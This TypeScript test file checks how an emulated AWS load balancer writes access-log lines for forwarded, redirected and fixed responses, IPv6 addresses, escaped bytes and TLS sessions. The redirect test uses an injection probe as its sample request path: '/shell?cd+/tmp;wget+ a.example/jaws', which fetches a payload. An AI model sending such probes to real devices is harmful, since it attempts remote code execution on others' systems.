// Whole lines for requests as they were seen in public captures of the real service, by kind. The evidence for each is
// in ALB-OBS OQ-15 to OQ-21.

import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'

import { failures } from '../../exchange/failure.ts'
import type { TlsFacts } from '../../exchange/client-facts.ts'
import { RequestRecord } from '../../exchange/record.ts'
import { Tier } from '../../wire/classification.ts'
import { RequestReader } from '../../wire/http1/request-reader.ts'
import { AccessLogLines } from './access-log-line.ts'

const RECEIVED_AT = 1000
const CREATED = Date.UTC(2018, 6, 2, 22, 22, 48, 364)
const CLIENT = '192.168.131.39:2817'
const LOAD_BALANCER = 'app/my-loadbalancer/50dc6c495c0c9188'
const GROUP = 'arn:aws:elasticloadbalancing:us-east-2:123456789012:targetgroup/my-targets/73e2d6bc24d8a067'
const TRACE = 'Root=1-58337262-36d228ad5d99923122bbe354'
const lines = new AccessLogLines({
  loadBalancerId: LOAD_BALANCER,
  dnsName: 'lb.example.com',
  protocol: 'http',
  listenerPort: 80,
})

/** The line of a request that was answered after 12 ms, without its line feed. */
function line(
  request: string,
  facts: Partial<RequestRecord>,
  client = CLIENT,
  tls: TlsFacts | null = null,
): string {
  const reader = new RequestReader()
  reader.read(request)
  reader.head.settleHost(false)
  const record = Object.assign(new RequestRecord(), {
    createdDate: CREATED + 0.641,
    receivedAt: RECEIVED_AT,
    respondedAt: RECEIVED_AT + 12,
    isParsed: true,
    receivedBytes: request.length,
    ...facts,
  })
  return lines.line(record, reader.head, { text: client, tls }, RECEIVED_AT + 12).replace(/\n$/, '')
}

const forwarded = {
  dispatchedAt: RECEIVED_AT + 1,
  responseAt: RECEIVED_AT + 12,
  target: '10.0.0.1:80',
  targetGroupArn: GROUP,
  targetStatus: 200,
  status: 200,
  sentBytes: 366,
  traceValue: TRACE,
  rulePriority: 0,
  action: 'forward',
}
const START = `http 2018-07-02T22:22:48.376641Z ${LOAD_BALANCER} ${CLIENT}`
const STAMP = '2018-07-02T22:22:48.364000Z'
const curl = 'Host: www.example.com\r\nUser-Agent: curl/7.46.0\r\n\r\n'

test('ALB-OBS-138, 149, 153, 157, 161, 167, 182, 186, 190 a forwarded request is written as the service writes it', () => {
  assert.equal(
    line(`GET / HTTP/1.1\r\n${curl}`, forwarded),
    `${START} 10.0.0.1:80 0.001 0.011 0.000 200 200 66 366 "GET http://www.example.com:80/ HTTP/1.1" ` +
      `"curl/7.46.0" - - ${GROUP} "${TRACE}" "-" "-" 0 ${STAMP} "forward" "-" "-" "10.0.0.1:80" "200" "-" "-"`,
  )
})

test('ALB-OBS-150, 158, 181, 183, 187 bytes that are no request leave all but the connection out', () => {
  assert.equal(
    line('\x16\x03', { isParsed: false, receivedBytes: 0, status: 400, sentBytes: 272 }),
    `${START} - -1 -1 -1 400 - 0 272 "- http://lb.example.com:80- -" "-" - - - "-" "-" "-" - ${STAMP} ` +
      '"-" "-" "-" "-" "-" "-" "-"',
  )
})

test('ALB-OBS-178, 184, 191, 192, 196 a redirect has no target and no group, and its URL has the blank that was sent', () => {
  const target = '/shell?cd+/tmp;wget+ a.example/jaws'
  assert.equal(
    line(`GET ${target} HTTP/1.1\r\n${curl}`, {
      status: 301,
      sentBytes: 390,
      traceValue: TRACE,
      rulePriority: 0,
      action: 'redirect',
      redirectUrl: `https://www.example.com:443${target}`,
      tier: Tier.acceptable,
      reason: 'SpaceInUri',
    }),
    `${START} - -1 -1 -1 301 - 100 390 "GET http://www.example.com:80${target} HTTP/1.1" "curl/7.46.0" - - - ` +
      `"${TRACE}" "-" "-" 0 ${STAMP} "redirect" "https://www.example.com:443${target}" "-" "-" "-" ` +
      '"Acceptable" "SpaceInUri"',
  )
})

test('ALB-OBS-130, 173, 194 a fixed response has no group, a request to an empty group has it', () => {
  const answered = { sentBytes: 162, traceValue: TRACE, rulePriority: 0 }
  assert.equal(
    line(`GET / HTTP/1.0\r\n${curl}`, { ...answered, status: 404, action: 'fixed-response' }),
    `${START} - -1 -1 -1 404 - 66 162 "GET http://www.example.com:80/ HTTP/1.0" "curl/7.46.0" - - - "${TRACE}" ` +
      `"-" "-" 0 ${STAMP} "fixed-response" "-" "-" "-" "-" "-" "-"`,
  )
  const empty = { status: 503, action: 'forward', targetGroupArn: GROUP, failure: failures.noTarget }
  assert.equal(
    line(`GET / HTTP/1.1\r\n${curl}`, { ...answered, ...empty }),
    `${START} - -1 -1 -1 503 - 66 162 "GET http://www.example.com:80/ HTTP/1.1" "curl/7.46.0" - - ${GROUP} ` +
      `"${TRACE}" "-" "-" 0 ${STAMP} "forward" "-" "-" "-" "-" "-" "-"`,
  )
})

test('ALB-OBS-148, 149, 186 IPv6 addresses have no brackets', () => {
  const text = line(
    `GET / HTTP/1.1\r\n${curl}`,
    { ...forwarded, target: '[2001:db8::2]:80' },
    '[2001:db8::1]:57314',
  )
  const fields = text.split(' ')
  assert.deepEqual(fields.slice(3, 5), ['2001:db8::1:57314', '2001:db8::2:80'])
  assert.equal(fields.at(-4), '"2001:db8::2:80"')
})

test('ALB-OBS-138 quotes, backslashes and bytes outside visible ASCII are hexadecimal in every quoted field', () => {
  const odd = '"\\\x00\xe9\x7f'
  const shown = '\\x22\\x5C\\x00\\xE9\\x7F'
  const request = `GET /${odd} HTTP/1.1\r\nHost: h\r\nUser-Agent: ${odd}\r\n\r\n`
  const text = line(request, { ...forwarded, action: 'redirect', redirectUrl: odd, traceValue: odd })
  const quoted = text.match(/"[^"]*"/g) ?? []
  assert.deepEqual(quoted.slice(0, 3), [`"GET http://h:80/${shown} HTTP/1.1"`, `"${shown}"`, `"${shown}"`])
  assert.equal(quoted[6], `"${shown}"`)
})

test('ALB-OBS-136, 138 whatever bytes come, a line has 29 fields in visible ASCII, and the bytes can be had back', () => {
  const bytes = fc.uint8Array({ maxLength: 40 }).map((value) => Buffer.from(value).toString('latin1'))
  fc.assert(
    fc.property(bytes, bytes, (url, trace) => {
      const text = line(`GET / HTTP/1.1\r\n${curl}`, {
        ...forwarded,
        action: 'redirect',
        redirectUrl: url,
        traceValue: trace,
      })
      assert.match(text, /^[\x20-\x7e]*$/)
      const fields = text.match(/"[^"]*"|\S+/g) ?? []
      assert.equal(fields.length, 29)
      const read = (field: string | undefined): string =>
        (field ?? '').slice(1, -1).replace(/\\x([0-9A-F]{2})/g, (_, hex: string) => {
          return String.fromCharCode(Number.parseInt(hex, 16))
        })
      assert.equal(read(fields[17]), trace)
      assert.equal(read(fields[23]), url)
    }),
  )
})

test('ALB-OBS-171, 172, 175, 176, 177 a session is named by its cipher, protocol, asked-for name and certificate', () => {
  const tls = {
    protocol: 'TLSv1.2',
    cipher: 'ECDHE-RSA-AES128-GCM-SHA256',
    domainName: 'www.example.com',
    certificate: 'arn:aws:acm:us-east-2:123456789012:certificate/12345678-1234-1234-1234-123456789012',
  }
  const written = line(`GET / HTTP/1.1\r\n${curl}`, { ...forwarded, type: 'https' }, CLIENT, tls)
  assert.match(
    written,
    /^https .* "curl\/7\.46\.0" ECDHE-RSA-AES128-GCM-SHA256 TLSv1\.2 arn:aws:elasticloadbalancing:/,
  )
  assert.ok(written.includes(`"${TRACE}" "www.example.com" "${tls.certificate}" 0 ${STAMP} `), written)
  // Others on the same listener: no name, a resumed session, and then clear text again.
  const resumed = { ...tls, protocol: 'TLSv1.3', domainName: null, certificate: 'session-reused' }
  const second = line(`GET / HTTP/1.1\r\n${curl}`, { ...forwarded, type: 'https' }, CLIENT, resumed)
  assert.ok(second.includes(' ECDHE-RSA-AES128-GCM-SHA256 TLSv1.3 '), second)
  assert.ok(second.includes(`"${TRACE}" "-" "session-reused" 0 ${STAMP} `), second)
  const third = line(`GET / HTTP/1.1\r\n${curl}`, forwarded)
  assert.ok(third.includes(`"curl/7.46.0" - - ${GROUP} "${TRACE}" "-" "-" 0 ${STAMP} `), third)
})
